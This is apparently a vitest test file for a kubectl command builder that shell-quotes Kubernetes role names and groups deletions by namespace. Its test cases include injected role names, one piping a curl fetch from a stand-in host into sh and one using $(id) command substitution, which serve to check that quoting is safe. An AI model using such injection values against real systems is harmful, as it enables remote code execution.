import { expect, test } from "vitest";
import type { Kind } from "../api/kind.ts";
import { kubectlCommand, kubectlCommands } from "./kubectl-command.ts";

const role = { plural: "roles", group: "rbac.authorization.k8s.io", namespaced: true } as Kind;

test.each([
  ["web:reader", "roles.rbac.authorization.k8s.io/web:reader"],
  ["x; curl evil.example|sh", "'roles.rbac.authorization.k8s.io/x; curl evil.example|sh'"],
  ["it's $(id)", "'roles.rbac.authorization.k8s.io/it'\\''s $(id)'"],
])("a role named %s is quoted as one shell word", (name, word) => {
  expect(kubectlCommand("delete", role, { namespace: "ns", name })).toBe(`kubectl delete ${word} -n ns`);
});

test("several objects need one command per namespace", () => {
  const names = ["a/web", "b/api", "a/db x"].map((text) => {
    const [namespace = "", name = ""] = text.split("/");
    return { namespace, name };
  });
  expect(kubectlCommands("delete", role, names, "--wait=false")).toBe(
    "kubectl delete roles.rbac.authorization.k8s.io web 'db x' --wait=false -n a\n" +
      "kubectl delete roles.rbac.authorization.k8s.io api --wait=false -n b",
  );
});
